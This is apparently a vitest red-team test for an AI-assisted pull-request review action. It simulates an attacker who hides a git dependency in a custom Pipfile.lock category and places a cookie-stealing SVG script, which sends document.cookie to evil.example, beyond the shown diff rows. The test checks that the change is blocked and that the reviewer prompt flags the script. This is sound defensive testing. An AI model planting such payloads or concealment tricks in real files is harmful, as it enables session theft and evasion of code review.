/**
 * Red team, end to end: one attacker's pull request through the built action
 * (loopback GitHub, scripted model). It hides a git dependency in a custom
 * Pipfile.lock category, and a script in an SVG behind a namespace prefix,
 * after more image links than the hunk shows. The lockfile check reads the
 * category (a 🔴 security finding quoting the line keeps the verdict
 * BLOCKED, whatever the security model says), and the code-review prompt
 * carries the script as an SVG fact with its line.
 */
import { afterAll, expect, it } from "vitest";
import { jsonReply, textReply } from "../support/modelServer.js";
import { BASE_FILES, pullRequestPayload, removeTempDirs, runAction } from "../support/actionHarness.js";
import { REVIEW_CHUNK, SECURITY, VERIFY_ONE, promptText, requestsFor, verifyByReading } from "./support/model.js";
import { describeRun, onlyCheck, outputFiles, startScenario } from "./support/scenario.js";

afterAll(removeTempDirs);

const SECURITY_PASS = ["No finding at or above the threshold.", "", "SECURITY_REVIEW: PASS", "Posture: standard — checked the change."].join("\n");
const HASH = `sha256:${"c0".repeat(32)}`;

function pipfileLock(groups: Record<string, Record<string, object>>): string {
  const meta = {
    hash: { sha256: "9e".repeat(32) },
    "pipfile-spec": 6,
    requires: {},
    sources: [{ name: "pypi", url: "https://pypi.org/simple", verify_ssl: true }],
  };
  return `${JSON.stringify({ _meta: meta, ...groups }, null, 4)}\n`;
}

const BASE_LOCK = pipfileLock({ default: { idna: { hashes: [HASH], version: "==3.4" } }, develop: {} });
const HEAD_LOCK = pipfileLock({
  default: { idna: { hashes: [HASH], version: "==3.4" } },
  develop: {},
  docs: { "sphinx-theme": { git: "https://github.com/attacker/sphinx-theme.git", ref: "0badc0de" } },
});
const SVG = [
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:svg="http://www.w3.org/2000/svg">',
  ...Array.from({ length: 240 }, (_, i) => `<image href="https://cdn.example/${i}.png"/>`),
  "<svg:script>fetch('https://evil.example/?c=' + document.cookie)</svg:script>",
  "</svg>",
  "",
].join("\n");

it("a git source in a Pipfile.lock category blocks, and a prefixed SVG script past the shown rows reaches the reviewer as a fact", async ({
  onTestFinished,
}) => {
  const { repo, fake, model } = await startScenario(
    { onTestFinished },
    {
      repo: { base: { ...BASE_FILES, "Pipfile.lock": BASE_LOCK }, change: { "Pipfile.lock": HEAD_LOCK, "assets/logo.svg": SVG } },
      routes: {
        [REVIEW_CHUNK]: () => jsonReply({ summary: "Reviewed.", findings: [] }),
        [VERIFY_ONE]: verifyByReading,
        [SECURITY]: () => textReply(SECURITY_PASS),
      },
    },
  );
  const run = await runAction({
    event: "pull_request",
    payload: pullRequestPayload(repo),
    workspace: repo.workspace("merge", { depth: 1 }),
    fake,
    model,
    sha: repo.mergeSha,
  });
  expect(run.timedOut, describeRun(run, { fake, model })).toBe(false);
  const check = onlyCheck(fake, fake.state.checkRuns[0]!.head_sha);
  expect(check.conclusion, describeRun(run, { fake, model })).toBe("failure");
  const { result } = outputFiles(run);
  expect(result.verdict).toBe("BLOCKED");
  const line = HEAD_LOCK.split("\n").findIndex((l) => l.includes("attacker/sphinx-theme.git")) + 1;
  expect(result.findings).toEqual(
    expect.arrayContaining([expect.objectContaining({ lane: "security", severity: "🔴", path: "Pipfile.lock", start_line: line })]),
  );
  const prompts = requestsFor(model, REVIEW_CHUNK).map(promptText).join("\n");
  expect(prompts).toContain("more lines of this SVG not shown");
  expect(prompts).toContain("- line 242: script element: `<svg:script>`");
});
